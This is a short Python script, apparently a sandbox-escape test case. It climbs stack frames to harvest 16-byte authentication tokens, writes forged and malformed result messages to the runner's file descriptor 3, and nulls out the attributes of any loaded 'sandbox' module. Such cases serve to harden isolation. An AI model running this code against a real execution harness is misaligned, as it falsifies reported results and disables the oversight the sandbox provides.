# escape: reaching the runner through frames makes the caller take nonsense, or crash
# reports: anything
import gc, json, os, sys
frame = sys._getframe()
tokens = set()
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, bytes) and len(value) == 16:
            tokens.add(value)
    frame = frame.f_back
for token in tokens:
    for body in (b"[" * 50000, b"{}", b"null", json.dumps({"status": ["x"], "value": 5, "error": {}, "exit": "no"}).encode(),
                 b'{"status": "timeout", "value": "FORGED"}'):
        os.write(3, token + b"R." + body)
for thing in gc.get_objects():
    if type(thing).__name__ == "module" and "sandbox" in getattr(thing, "__name__", ""):
        for name in list(vars(thing)):
            if not name.startswith("__"):
                setattr(thing, name, None)
print("done")
